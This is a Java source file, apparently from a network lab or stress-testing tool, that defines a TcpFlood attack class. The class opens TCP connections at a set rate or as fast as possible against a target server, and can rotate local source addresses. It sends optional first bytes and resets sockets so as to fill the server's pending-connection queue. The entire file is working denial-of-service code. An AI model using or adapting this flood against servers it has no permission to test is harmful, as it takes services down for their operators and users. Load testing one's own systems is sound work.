package io.msocket.lab.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.util.ArrayDeque;
import java.util.Iterator;
import java.util.concurrent.TimeUnit;
import java.util.function.BooleanSupplier;
import java.util.function.LongFunction;
import java.util.function.Supplier;
import org.jspecify.annotations.Nullable;

/**
 * TCP connections by one thread, as many a second as it can make or is to make: each says its first words, which may be none, and
 * is reset when it is answered or when there are too many. No port is left waiting.
 */
final class TcpFlood implements Attack {
    /** As long as the kernel's own queue of connections that nobody has accepted may well be. */
    private static final int MOST_OPEN = 2_000;

    /** Made in a row before the thread looks at what has become of the others. */
    private static final int BATCH = 64;

    private final InetSocketAddress server;
    private final Supplier<byte[]> words;
    private final LongFunction<@Nullable InetAddress> sources;
    private final double perNano;

    private final ArrayDeque<SocketChannel> open = new ArrayDeque<>();
    private final ByteBuffer answer = ByteBuffer.allocate(1024);
    private long made;

    /**
     * @param words for the next one; empty for saying nothing, and then nothing is answered
     * @param sources whence the n-th is made; null for anywhere
     * @param perSecond how many at most; 0 for as many as it can
     */
    TcpFlood(
            InetSocketAddress server,
            Supplier<byte[]> words,
            LongFunction<@Nullable InetAddress> sources,
            long perSecond) {
        this.server = server;
        this.words = words;
        this.sources = sources;
        this.perNano = perSecond == 0 ? Double.POSITIVE_INFINITY : (double) perSecond / TimeUnit.SECONDS.toNanos(1);
    }

    @Override
    public void run(Tally tally, BooleanSupplier stopped) throws IOException {
        long start = System.nanoTime();
        try (Selector selector = Selector.open()) {
            while (!stopped.getAsBoolean()) {
                double due = perNano * (System.nanoTime() - start);
                int now = (int) Math.min(BATCH, due - made);
                for (int i = 0; i < now; i++) {
                    begin(selector, tally);
                }
                if (now == BATCH) {
                    selector.selectNow(key -> advance(key, tally));
                } else {
                    selector.select(key -> advance(key, tally), 1);
                }
            }
            for (SocketChannel channel : open) {
                channel.close();
            }
        }
    }

    private void begin(Selector selector, Tally tally) throws IOException {
        InetAddress source = sources.apply(made++);
        SocketChannel channel = SocketChannel.open();
        try {
            channel.configureBlocking(false);
            channel.setOption(StandardSocketOptions.SO_LINGER, 0);
            if (source != null) {
                channel.bind(new InetSocketAddress(source, 0));
            }
            channel.connect(server);
            channel.register(selector, SelectionKey.OP_CONNECT);
            open.add(channel);
        } catch (IOException e) {
            // No port, no descriptor.
            tally.didNot();
            channel.close();
        }
        dropOldest();
    }

    private void dropOldest() throws IOException {
        while (open.size() > MOST_OPEN) {
            open.remove().close();
        }
        // What was answered is closed already; it is in the way where it is the oldest.
        for (Iterator<SocketChannel> each = open.iterator();
                each.hasNext() && !each.next().isOpen(); ) {
            each.remove();
        }
    }

    private void advance(SelectionKey key, Tally tally) {
        SocketChannel channel = (SocketChannel) key.channel();
        try {
            if (key.isConnectable()) {
                channel.finishConnect();
                tally.did();
                byte[] first = words.get();
                if (first.length == 0) {
                    key.interestOps(0);
                } else {
                    channel.write(ByteBuffer.wrap(first));
                    key.interestOps(SelectionKey.OP_READ);
                }
            } else {
                answer.clear();
                channel.read(answer);
                channel.close();
            }
        } catch (IOException e) {
            tally.didNot();
            close(channel);
        }
    }

    private static void close(SocketChannel channel) {
        try {
            channel.close();
        } catch (IOException e) {
            throw new IllegalStateException("a socket that cannot be closed", e);
        }
    }
}
